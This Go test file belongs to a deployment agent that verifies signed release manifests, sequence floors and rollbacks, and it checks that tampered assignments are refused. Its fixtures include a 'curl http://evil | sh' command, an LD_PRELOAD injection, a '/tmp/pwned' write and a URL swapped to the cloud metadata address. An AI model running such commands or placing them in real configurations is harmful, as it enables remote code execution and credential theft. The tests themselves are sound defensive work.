package agent

import (
	"context"
	"crypto/ed25519"
	"errors"
	"fmt"
	"math"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/fleetwave/fleetwave/internal/signing"
	v1 "github.com/fleetwave/fleetwave/proto/fleetwave/v1"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/durationpb"
)

// testKey is a generated signing key pair with its public key file.
type testKey struct {
	pub     ed25519.PublicKey
	priv    ed25519.PrivateKey
	id      string
	pubFile string
	seq     *uint64 // the last sequence sign used
}

func newTestKey(t *testing.T) testKey {
	t.Helper()
	pubPEM, privPEM, err := signing.GenerateKey()
	if err != nil {
		t.Fatal(err)
	}
	pub, err := signing.ParsePublicKey(pubPEM)
	if err != nil {
		t.Fatal(err)
	}
	priv, err := signing.ParsePrivateKey(privPEM)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "ci.pub")
	if err := os.WriteFile(path, pubPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	return testKey{pub: pub, priv: priv, id: signing.KeyID(pub), pubFile: path, seq: new(uint64)}
}

// sign returns a copy of asg whose release is signed by k with asg's spec
// and the next sequence of k, valid from signedAt to expiresAt.
func (k testKey) sign(t *testing.T, asg *v1.Assignment, signedAt, expiresAt time.Time) *v1.Assignment {
	t.Helper()
	*k.seq++
	return k.signSeq(t, asg, *k.seq, signedAt, expiresAt)
}

// signSeq is sign with a given sequence.
func (k testKey) signSeq(t *testing.T, asg *v1.Assignment, seq uint64, signedAt, expiresAt time.Time) *v1.Assignment {
	t.Helper()
	asg = proto.Clone(asg).(*v1.Assignment)
	sm, err := signing.Sign(signing.Manifest(asg.GetRelease(), asg.GetSpec(), seq, signedAt, expiresAt), k.priv)
	if err != nil {
		t.Fatal(err)
	}
	asg.Release.Signed = sm
	return asg
}

// rollback returns a copy of asg carrying k's signed rollback statement for
// its release, valid on floors up to maxFloor.
func (k testKey) rollback(t *testing.T, asg *v1.Assignment, maxFloor uint64, spec string, signedAt, expiresAt time.Time) *v1.Assignment {
	t.Helper()
	asg = proto.Clone(asg).(*v1.Assignment)
	sr, err := signing.SignRollback(signing.Rollback(asg.GetRelease(), maxFloor, spec, signedAt, expiresAt), k.priv)
	if err != nil {
		t.Fatal(err)
	}
	asg.Rollback = sr
	return asg
}

// verifyOK is verifyAssignment's error alone.
func verifyOK(asg *v1.Assignment, trusted trustedKeys, installed []*v1.Assignment, fl floor, now time.Time) error {
	_, _, err := verifyAssignment(asg, trusted, installed, fl, now)
	return err
}

func TestVerifyRelease(t *testing.T) {
	k, other := newTestKey(t), newTestKey(t)
	trusted := trustedKeys{k.id: k.pub}
	now := time.Now()
	sha := strings.Repeat("ab", 32)
	base := testAssignment("2.0.0", 5, sha, 100, "")
	good := k.sign(t, base, now, now.Add(time.Hour))
	if err := verifyOK(good, trusted, nil, floor{}, now); err != nil {
		t.Fatalf("good: %v", err)
	}
	// A release without its service name is checked as the assigned one's.
	noSvc := proto.Clone(good).(*v1.Assignment)
	noSvc.Release.Service = ""
	if err := verifyOK(noSvc, trusted, nil, floor{}, now); err != nil {
		t.Fatalf("release without service: %v", err)
	}
	if noSvc.Release.Service != "" {
		t.Fatal("verifyAssignment modified the assignment")
	}
	expired := k.sign(t, base, now.Add(-48*time.Hour), now.Add(-time.Hour))
	tampered := proto.Clone(good).(*v1.Assignment)
	tampered.Release.Artifact.Size = 99
	// What a coordinator (or whoever writes etcd) would change: what runs.
	evilCommand := proto.Clone(good).(*v1.Assignment)
	evilCommand.Spec.Run.Command = []string{"/bin/sh", "-c", "curl http://evil | sh"}
	evilEnv := proto.Clone(good).(*v1.Assignment)
	evilEnv.Spec.Run.Env["LD_PRELOAD"] = "/tmp/evil.so"
	evilCheck := proto.Clone(good).(*v1.Assignment)
	evilCheck.Spec.Checks[0].Kind = &v1.Check_Exec{Exec: &v1.ExecCheck{Command: []string{"/bin/sh", "-c", "id > /tmp/pwned"}}}
	// A change of only how the release is judged (installed in place when
	// unsigned) is refused like any other spec change.
	judging := proto.Clone(good).(*v1.Assignment)
	judging.Spec.MinHealthyTime = durationpb.New(time.Hour)
	judging.Spec.Analysis = &v1.Analysis{Watch: durationpb.New(time.Hour)}
	noSpec := proto.Clone(good).(*v1.Assignment)
	noSpec.Spec = nil
	// Fields only the coordinator acts on may change.
	policy := proto.Clone(good).(*v1.Assignment)
	policy.Spec.Selector = map[string]string{"zone": "b"}
	policy.Spec.Rollout = &v1.RolloutPolicy{NoCanary: true}
	if err := verifyOK(policy, trusted, nil, floor{}, now); err != nil {
		t.Errorf("selector and rollout policy changed: %v", err)
	}
	// A manifest signed before spec digests and sequences were.
	old := proto.Clone(base).(*v1.Assignment)
	m := signing.Manifest(old.Release, old.Spec, 1, now, now.Add(time.Hour))
	m.SpecSha256, m.Sequence = "", 0
	old.Release.Signed, _ = signing.Sign(m, k.priv)
	tests := []struct {
		name string
		asg  *v1.Assignment
		kind error
		want string
	}{
		{"unsigned", base, signing.ErrUnsigned, "release 2.0.0: unsigned: refused"},
		{"unknown key", other.sign(t, base, now, now.Add(time.Hour)), signing.ErrUnknownKey, "release 2.0.0: signature by unknown key " + other.id + ": refused"},
		{"expired", expired, signing.ErrExpired, "expired at"},
		{"size tampered", tampered, signing.ErrMismatch, "artifact size 100, the release 99"},
		{"run.command changed", evilCommand, signing.ErrSpecMismatch, "release 2.0.0: the assigned spec has sha256 " + signing.SpecDigest(evilCommand.Spec) + ", the signed one " + signing.SpecDigest(base.Spec)},
		{"run.env changed", evilEnv, signing.ErrSpecMismatch, "the assigned spec has sha256"},
		{"check changed", evilCheck, signing.ErrSpecMismatch, "the assigned spec has sha256"},
		{"judging only changed", judging, signing.ErrSpecMismatch, "the assigned spec has sha256"},
		{"no spec", noSpec, signing.ErrSpecMismatch, "the assigned spec has sha256"},
		{"signed by an older fleetwave", old, signing.ErrIncomplete, "no spec digest or no sequence"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := verifyOK(tt.asg, trusted, nil, floor{}, now)
			if !errors.Is(err, tt.kind) || !strings.Contains(err.Error(), tt.want) || !strings.HasSuffix(err.Error(), ": refused") {
				t.Fatalf("err %v, want %v containing %q", err, tt.kind, tt.want)
			}
		})
	}
	// An expired manifest of a release installed here (current or last
	// good) is accepted; of another release it is not. Its spec still has
	// to be the signed one.
	installed := []*v1.Assignment{nil, testAssignment("2.0.0", 3, sha, 100, "")}
	if err := verifyOK(expired, trusted, installed, floor{}, now); err != nil {
		t.Errorf("expired, installed: %v", err)
	}
	expiredEvil := proto.Clone(expired).(*v1.Assignment)
	expiredEvil.Spec.Run.Command = []string{"./evil"}
	if err := verifyOK(expiredEvil, trusted, installed, floor{}, now); !errors.Is(err, signing.ErrSpecMismatch) {
		t.Errorf("expired, installed, other spec: %v", err)
	}
	otherDigest := []*v1.Assignment{testAssignment("2.0.0", 3, strings.Repeat("cd", 32), 100, "")}
	if err := verifyOK(expired, trusted, otherDigest, floor{}, now); !errors.Is(err, signing.ErrExpired) {
		t.Errorf("expired, other digest installed: %v", err)
	}
	// Installed or not, a bad signature is refused.
	if err := verifyOK(base, trusted, installed, floor{}, now); !errors.Is(err, signing.ErrUnsigned) {
		t.Errorf("unsigned, installed: %v", err)
	}
}

// The floor: the highest sequence accepted. Above it raises it; at it only
// its own release; below it only what is installed here or what a valid
// rollback statement names, and the floor never goes down.
func TestVerifyFloor(t *testing.T) {
	k, other := newTestKey(t), newTestKey(t)
	trusted := trustedKeys{k.id: k.pub}
	now := time.Now()
	at := func(version string, seq uint64) *v1.Assignment {
		return k.signSeq(t, testAssignment(version, 9, strings.Repeat(fmt.Sprintf("%02x", seq), 32), 100, ""), seq, now, now.Add(time.Hour))
	}
	v3, v5, v7 := at("3.0.0", 3), at("5.0.0", 5), at("7.0.0", 7)
	fl := floor{Sequence: 5, Version: "5.0.0", ArtifactSHA256: v5.Release.Artifact.Sha256}

	next, raise, err := verifyAssignment(v7, trusted, nil, fl, now)
	if err != nil || !raise || next != (floor{7, "7.0.0", v7.Release.Artifact.Sha256}) {
		t.Fatalf("above the floor: %v %v %v", next, raise, err)
	}
	if next, raise, err := verifyAssignment(v5, trusted, nil, fl, now); err != nil || raise || next != fl {
		t.Fatalf("the floor's release: %v %v %v", next, raise, err)
	}
	if next, raise, err := verifyAssignment(at("1.0.0", 1), trusted, nil, floor{}, now); err != nil || !raise || next.Sequence != 1 {
		t.Fatalf("no floor yet: %v %v %v", next, raise, err)
	}
	// A validly signed older release: a downgrade.
	err = verifyOK(v3, trusted, nil, fl, now)
	want := "release 3.0.0: signed sequence 3 is below this host's floor 5 (release 5.0.0) for the service: going back needs a signed rollback statement (fleetwave rollback web --to 3.0.0 --sign KEY): refused"
	if !errors.Is(err, signing.ErrBelowFloor) || err.Error() != want {
		t.Fatalf("below the floor: %v\nwant %s", err, want)
	}
	// Another release signed with the floor's sequence.
	twin := at("5.0.1", 5)
	if err := verifyOK(twin, trusted, nil, fl, now); !errors.Is(err, signing.ErrBelowFloor) || !strings.Contains(err.Error(), "is this host's floor, held by release 5.0.0") {
		t.Fatalf("same sequence, another release: %v", err)
	}
	// Installed here (current or last good): going back to it is fine.
	if err := verifyOK(v3, trusted, []*v1.Assignment{nil, testAssignment("3.0.0", 2, v3.Release.Artifact.Sha256, 100, "")}, fl, now); err != nil {
		t.Fatalf("installed: %v", err)
	}
	// A rollback statement for it: accepted, the floor kept.
	rb := k.rollback(t, v3, 5, "", now, now.Add(time.Hour))
	if next, raise, err := verifyAssignment(rb, trusted, nil, fl, now); err != nil || raise || next != fl {
		t.Fatalf("signed rollback: %v %v %v", next, raise, err)
	}
	// ...but not once the host has moved past what it may undo.
	fl7 := floor{Sequence: 7, Version: "7.0.0", ArtifactSHA256: v7.Release.Artifact.Sha256}
	if err := verifyOK(rb, trusted, nil, fl7, now); !errors.Is(err, signing.ErrBelowFloor) ||
		!strings.Contains(err.Error(), "the rollback statement allows going back from a floor of at most 5; this host's floor is 7 (release 7.0.0)") {
		t.Fatalf("statement replayed after a newer release: %v", err)
	}
	refusals := map[string]*v1.Assignment{
		"statement by an untrusted key": other.rollback(t, v3, 5, "", now, now.Add(time.Hour)),
		"statement for another release": func() *v1.Assignment {
			a := k.rollback(t, at("2.0.0", 2), 5, "", now, now.Add(time.Hour))
			b := proto.Clone(v3).(*v1.Assignment)
			b.Rollback = a.Rollback
			return b
		}(),
		"statement expired": k.rollback(t, v3, 5, "", now.Add(-2*time.Hour), now.Add(-time.Hour)),
	}
	for name, asg := range refusals {
		if err := verifyOK(asg, trusted, nil, fl, now); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
	// A statement that names the spec the release runs with now (a
	// rollback after the spec changed): that spec is accepted, no other.
	changed := proto.Clone(v3).(*v1.Assignment)
	changed.Spec.Run.Env["NEW"] = "1"
	if err := verifyOK(k.rollback(t, changed, 5, "", now, now.Add(time.Hour)), trusted, nil, fl, now); !errors.Is(err, signing.ErrSpecMismatch) {
		t.Errorf("changed spec without it in the statement: %v", err)
	}
	withSpec := k.rollback(t, changed, 5, signing.SpecDigest(changed.Spec), now, now.Add(time.Hour))
	if err := verifyOK(withSpec, trusted, nil, fl, now); err != nil {
		t.Errorf("changed spec named by the statement: %v", err)
	}
	withSpec.Spec.Run.Env["NEW"] = "2"
	if err := verifyOK(withSpec, trusted, nil, fl, now); !errors.Is(err, signing.ErrSpecMismatch) {
		t.Errorf("yet another spec: %v", err)
	}
}

// Floors survive in their files; a file that cannot be read refuses rather
// than forgets.
func TestFloorStore(t *testing.T) {
	dir := t.TempDir()
	fs := newFloorStore(dir)
	if f, err := fs.get("web"); err != nil || f != (floor{}) {
		t.Fatalf("no file: %v %v", f, err)
	}
	want := floor{Sequence: 4, Version: "4.0.0", ArtifactSHA256: strings.Repeat("ab", 32)}
	if err := fs.raise("web", want); err != nil {
		t.Fatal(err)
	}
	if f, err := newFloorStore(dir).get("web"); err != nil || f != want {
		t.Fatalf("reloaded: %v %v", f, err)
	}
	if err := os.WriteFile(filepath.Join(dir, "trust", "floors", "api.json"), []byte("{not json"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := newFloorStore(dir).get("api"); err == nil || !strings.Contains(err.Error(), "api.json") {
		t.Fatalf("corrupt file: %v", err)
	}
}

func TestTrustedKeysConfig(t *testing.T) {
	cfg := Config{Insecure: true, Coordinators: []string{"127.0.0.1:1"}, HostID: "h", DataDir: "d", TrustedKeys: []string{"a.pub", " "}}
	if err := cfg.Validate(); err == nil || !strings.HasPrefix(err.Error(), "trusted_keys[1]: empty path") {
		t.Errorf("Validate: %v", err)
	}
	if keys, err := loadTrustedKeys(nil); keys != nil || err != nil {
		t.Errorf("no keys: %v %v", keys, err)
	}
	missing := filepath.Join(t.TempDir(), "nope.pub")
	if _, err := loadTrustedKeys([]string{missing}); err == nil || !strings.HasPrefix(err.Error(), "trusted_keys: ") || !strings.Contains(err.Error(), missing) {
		t.Errorf("missing key file: %v", err)
	}
	cfg.TrustedKeys = []string{missing}
	if err := Run(context.Background(), cfg, testLogger(t)); err == nil || !strings.Contains(err.Error(), "trusted_keys") {
		t.Errorf("Run with a missing key file: %v", err)
	}
}

// TestAgentRefusesUnverifiedReleases runs an agent with a trusted key: an
// unsigned, foreign-signed, tampered, expired or mismatched release is
// refused before anything is fetched (reported FAILED naming the check, the
// running release untouched); a signed one installs; an older generation is
// refused, also after a restart.
func TestAgentRefusesUnverifiedReleases(t *testing.T) {
	k, other := newTestKey(t), newTestKey(t)
	fc := newFakeCoordinator(t)
	v1Art := tarGz(t, map[string]string{"run.sh": runScript, "check.sh": goodCheck})
	v2Art := tarGz(t, map[string]string{"run.sh": runScript, "check.sh": goodCheck, "v2": "2"})
	d1 := fc.addArtifact(v1Art)
	var v2Gets atomic.Int32
	hs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		v2Gets.Add(1)
		w.Write(v2Art)
	}))
	defer hs.Close()
	d2 := fc.addArtifact(v2Art) // digest only: the agent fetches v2 from hs

	dataDir := t.TempDir()
	pidFile := filepath.Join(dataDir, "run", testSvc+".pid")
	cfg := Config{Insecure: true, Coordinators: []string{fc.addr}, HostID: testHostID, Labels: map[string]string{"port": "8081"},
		DataDir: dataDir, TrustedKeys: []string{k.pubFile}} // not other's
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := runAgent(t, ctx, cfg, testOptions())

	now := time.Now()
	fc.assign(k.sign(t, testAssignment("1.0.0", 1, d1, int64(len(v1Art)), ""), now, now.Add(time.Hour)))
	fc.waitFor(t, "signed v1 healthy", 20*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
		return reportIs(lastReport(rs, testSvc), 1, v1.Phase_PHASE_HEALTHY, "1.0.0")
	})
	v1PID := readPID(t, pidFile)

	v2 := testAssignment("2.0.0", 0, d2, int64(len(v2Art)), hs.URL+"/v2.tar.gz")
	at := func(gen int64, a *v1.Assignment) *v1.Assignment {
		a = proto.Clone(a).(*v1.Assignment)
		a.Generation = gen
		return a
	}
	badSig := k.sign(t, v2, now, now.Add(time.Hour))
	badSig.Release.Signed.Signature[0] ^= 0x80
	otherDigest := k.sign(t, v2, now, now.Add(time.Hour))
	otherDigest.Release.Artifact.Sha256 = d1 // a coordinator swapping the artifact
	otherURL := k.sign(t, v2, now, now.Add(time.Hour))
	otherURL.Release.Artifact.Url = "http://169.254.169.254/latest/meta-data" // ...or where it is fetched from
	refusals := []struct {
		name string
		asg  *v1.Assignment
		want string
	}{
		{"unsigned", v2, "release 2.0.0: unsigned: refused"},
		{"unknown key", other.sign(t, v2, now, now.Add(time.Hour)), "release 2.0.0: signature by unknown key " + other.id + ": refused"},
		{"bad signature", badSig, "signature by key " + k.id + " does not verify: refused"},
		{"expired", k.sign(t, v2, now.Add(-72*time.Hour), now.Add(-time.Hour)), "signed manifest expired at"},
		{"artifact swapped", otherDigest, "signed manifest has artifact sha256 " + d2 + ", the release " + d1},
		{"url swapped", otherURL, "signed manifest has artifact url " + hs.URL + "/v2.tar.gz, the release http://169.254.169.254/latest/meta-data"},
	}
	gen := int64(1)
	for _, r := range refusals {
		gen++
		fc.assign(at(gen, r.asg))
		fc.waitFor(t, r.name+" refused", 10*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
			last := lastReport(rs, testSvc)
			return reportIs(last, gen, v1.Phase_PHASE_FAILED, "1.0.0") && strings.Contains(last.GetReason(), r.want) &&
				last.GetLastGoodVersion() == "1.0.0"
		})
		if n := v2Gets.Load(); n != 0 {
			t.Fatalf("%s: v2 fetched %d times", r.name, n)
		}
		if _, err := os.Stat(filepath.Join(dataDir, "releases", testSvc, "2.0.0")); !os.IsNotExist(err) {
			t.Fatalf("%s: v2 staged: %v", r.name, err)
		}
		if got := currentLink(t, dataDir); got != "1.0.0" {
			t.Fatalf("%s: current -> %q", r.name, got)
		}
		if pid := readPID(t, pidFile); pid != v1PID || !alive(pid) {
			t.Fatalf("%s: v1 (pid %d) stopped or restarted: pid %d", r.name, v1PID, pid)
		}
	}

	// Correctly signed: installs.
	gen++
	good := gen
	fc.assign(at(good, k.sign(t, v2, now, now.Add(time.Hour))))
	fc.waitFor(t, "signed v2 healthy", 20*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
		return reportIs(lastReport(rs, testSvc), good, v1.Phase_PHASE_HEALTHY, "2.0.0")
	})
	if v2Gets.Load() == 0 {
		t.Fatal("v2 not fetched from its URL")
	}
	v2PID := readPID(t, pidFile)

	// A lower generation (a replayed, validly signed v1) is refused and
	// reported; nothing changes.
	replay := k.sign(t, testAssignment("1.0.0", good-1, d1, int64(len(v1Art)), ""), now, now.Add(time.Hour))
	fc.assign(replay)
	wantReplay := "refused assignment: generation " + strconv.FormatInt(good-1, 10) + " (release 1.0.0) is older than the accepted generation " + strconv.FormatInt(good, 10)
	fc.waitFor(t, "replay refused", 10*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
		last := lastReport(rs, testSvc)
		return reportIs(last, good, v1.Phase_PHASE_HEALTHY, "2.0.0") && strings.Contains(last.GetReason(), wantReplay)
	})
	if pid := readPID(t, pidFile); pid != v2PID || currentLink(t, dataDir) != "2.0.0" {
		t.Fatalf("replay changed the service: pid %d -> %d, current %s", v2PID, pid, currentLink(t, dataDir))
	}

	// After a restart the accepted generation still holds (state file).
	cancel()
	waitDone(t, done)
	fc.mu.Lock()
	nReports := len(fc.reports)
	fc.mu.Unlock()
	ctx2, cancel2 := context.WithCancel(context.Background())
	defer cancel2()
	done2 := runAgent(t, ctx2, cfg, testOptions())
	fc.waitFor(t, "replay refused after restart", 20*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
		for _, r := range rs[nReports:] {
			if r.GetService() == testSvc && r.GetGeneration() == good && strings.Contains(r.GetReason(), wantReplay) {
				return true
			}
		}
		return false
	})
	fc.waitFor(t, "v2 healthy after restart", 20*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
		return reportIs(lastReport(rs[nReports:], testSvc), good, v1.Phase_PHASE_HEALTHY, "2.0.0")
	})
	if got := currentLink(t, dataDir); got != "2.0.0" {
		t.Fatalf("current -> %q after restart", got)
	}

	// A compromised coordinator sends the running release at the highest
	// generation: valid, taken without a restart, and every lower
	// generation is a replay from then on. The leader's assignment that
	// names it as the one it replaces is taken, and verified like any: an
	// unsigned release fails at its generation and nothing runs it; a
	// signed one is taken.
	fc.assign(at(math.MaxInt64, k.sign(t, v2, now, now.Add(time.Hour))))
	fc.waitFor(t, "v2 at the highest generation", 10*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
		return reportIs(lastReport(rs, testSvc), math.MaxInt64, v1.Phase_PHASE_HEALTHY, "2.0.0")
	})
	replacing := func(gen int64, a *v1.Assignment) *v1.Assignment {
		a = at(gen, a)
		a.ReplacesGeneration = math.MaxInt64
		return a
	}
	fc.assign(replacing(good+1, testAssignment("1.0.0", 0, d1, int64(len(v1Art)), "")))
	fc.waitFor(t, "the unsigned replacement refused", 10*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
		last := lastReport(rs, testSvc)
		return reportIs(last, good+1, v1.Phase_PHASE_FAILED, "2.0.0") && strings.Contains(last.GetReason(), "release 1.0.0: unsigned: refused")
	})
	fc.assign(replacing(good+2, k.sign(t, v2, now, now.Add(time.Hour))))
	fc.waitFor(t, "a signed assignment taken after the replacement", 10*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
		return reportIs(lastReport(rs, testSvc), good+2, v1.Phase_PHASE_HEALTHY, "2.0.0")
	})
	if pid := readPID(t, pidFile); pid != v2PID || currentLink(t, dataDir) != "2.0.0" {
		t.Fatalf("the made-up generation and its replacement changed the service: pid %d -> %d, current %s", v2PID, pid, currentLink(t, dataDir))
	}
	cancel2()
	waitDone(t, done2)
}

// TestAgentReleaseFloor runs an agent with a trusted key: a validly signed
// older release assigned with a higher generation (a downgrade) is refused,
// also after a restart (the floor is on disk); a signed rollback statement
// lets it install; a spec that is not the signed one is refused. Before
// the floor and the spec digest, the downgrade and the changed command both
// ran.
func TestAgentReleaseFloor(t *testing.T) {
	k := newTestKey(t)
	fc := newFakeCoordinator(t)
	v1Art := tarGz(t, map[string]string{"run.sh": runScript, "check.sh": goodCheck})
	v2Art := tarGz(t, map[string]string{"run.sh": runScript, "check.sh": goodCheck, "v2": "2"})
	d1, d2 := fc.addArtifact(v1Art), fc.addArtifact(v2Art)
	dataDir := t.TempDir()
	cfg := Config{Insecure: true, Coordinators: []string{fc.addr}, HostID: testHostID, Labels: map[string]string{"port": "8081"},
		DataDir: dataDir, TrustedKeys: []string{k.pubFile}}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := runAgent(t, ctx, cfg, testOptions())
	now := time.Now()
	rel1 := k.signSeq(t, testAssignment("1.0.0", 1, d1, int64(len(v1Art)), ""), 1, now, now.Add(time.Hour))
	rel2 := k.signSeq(t, testAssignment("2.0.0", 2, d2, int64(len(v2Art)), ""), 2, now, now.Add(time.Hour))
	at := func(gen int64, a *v1.Assignment) *v1.Assignment {
		a = proto.Clone(a).(*v1.Assignment)
		a.Generation = gen
		return a
	}
	healthy := func(gen int64, version string) {
		t.Helper()
		fc.waitFor(t, version+" healthy at generation "+strconv.FormatInt(gen, 10), 20*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
			return reportIs(lastReport(rs, testSvc), gen, v1.Phase_PHASE_HEALTHY, version)
		})
	}
	refused := func(gen int64, running, want string) {
		t.Helper()
		fc.waitFor(t, "generation "+strconv.FormatInt(gen, 10)+" refused", 20*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
			last := lastReport(rs, testSvc)
			return reportIs(last, gen, v1.Phase_PHASE_FAILED, running) && strings.Contains(last.GetReason(), want)
		})
		if got := currentLink(t, dataDir); got != running {
			t.Fatalf("current -> %q, want %q", got, running)
		}
	}
	fc.assign(rel1)
	healthy(1, "1.0.0")
	fc.assign(rel2)
	healthy(2, "2.0.0")
	// Another release (here: a second one signed for an older version)
	// pushed out of the installed releases' way.
	rel3 := k.signSeq(t, testAssignment("3.0.0", 3, d2, int64(len(v2Art)), ""), 3, now, now.Add(time.Hour))
	fc.assign(rel3)
	healthy(3, "3.0.0")

	// The downgrade: 1.0.0 is validly signed but below the floor (3).
	fc.assign(at(4, rel1))
	refused(4, "3.0.0", "signed sequence 1 is below this host's floor 3 (release 3.0.0)")
	if b, err := os.ReadFile(filepath.Join(dataDir, "trust", "floors", testSvc+".json")); err != nil || !strings.Contains(string(b), `"sequence":3`) {
		t.Fatalf("floor file: %s %v", b, err)
	}

	// What runs must be what was signed.
	evil := at(5, k.signSeq(t, testAssignment("4.0.0", 5, d2, int64(len(v2Art)), ""), 4, now, now.Add(time.Hour)))
	evil.Spec.Run.Command = []string{"./run.sh", "--evil"}
	fc.assign(evil)
	refused(5, "3.0.0", "the assigned spec has sha256 "+signing.SpecDigest(evil.Spec))

	// After a restart the floor still holds.
	cancel()
	waitDone(t, done)
	ctx2, cancel2 := context.WithCancel(context.Background())
	defer cancel2()
	done2 := runAgent(t, ctx2, cfg, testOptions())
	fc.assign(at(6, rel1))
	refused(6, "3.0.0", "below this host's floor 3")

	// With a signed rollback statement it installs, and the floor stays.
	fc.assign(at(7, k.rollback(t, rel1, 3, "", now, now.Add(time.Hour))))
	healthy(7, "1.0.0")
	if f, err := newFloorStore(dataDir).get(testSvc); err != nil || f.Sequence != 3 {
		t.Fatalf("floor after the rollback: %v %v", f, err)
	}
	// Rolling forward again needs nothing.
	fc.assign(at(8, rel3))
	healthy(8, "3.0.0")
	cancel2()
	waitDone(t, done2)
}

// An assignment of a generation below 1 that names the accepted one as
// the generation it replaces is refused and changes nothing; the service
// takes the next assignment (found by an attack review: it lowered the
// accepted generation to one the state file refuses, and every later
// action of the service waited on a write that never succeeded).
func TestAgentGenerationBelowOneReplacesNothing(t *testing.T) {
	fc := newFakeCoordinator(t)
	art := tarGz(t, map[string]string{"run.sh": runScript, "check.sh": goodCheck})
	d := fc.addArtifact(art)
	dataDir := t.TempDir()
	cfg := Config{Insecure: true, Coordinators: []string{fc.addr}, HostID: testHostID, Labels: map[string]string{"port": "8081"}, DataDir: dataDir}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := runAgent(t, ctx, cfg, testOptions())
	fc.assign(testAssignment("1.0.0", 1, d, int64(len(art)), ""))
	fc.waitFor(t, "v1 healthy", 20*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
		return reportIs(lastReport(rs, testSvc), 1, v1.Phase_PHASE_HEALTHY, "1.0.0")
	})
	fc.assign(&v1.Assignment{Service: testSvc, Generation: -5, ReplacesGeneration: 1})
	fc.waitFor(t, "generation -5 refused", 10*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
		last := lastReport(rs, testSvc)
		return reportIs(last, 1, v1.Phase_PHASE_HEALTHY, "1.0.0") && strings.Contains(last.GetReason(), "refused assignment: generation -5")
	})
	fc.assign(testAssignment("1.0.0", 7, d, int64(len(art)), ""))
	fc.waitFor(t, "the next assignment taken", 10*time.Second, func(_ []*v1.Hello, rs []*v1.ServiceReport) bool {
		return reportIs(lastReport(rs, testSvc), 7, v1.Phase_PHASE_HEALTHY, "1.0.0")
	})
	cancel()
	waitDone(t, done)
	stopServices(t, dataDir)
}
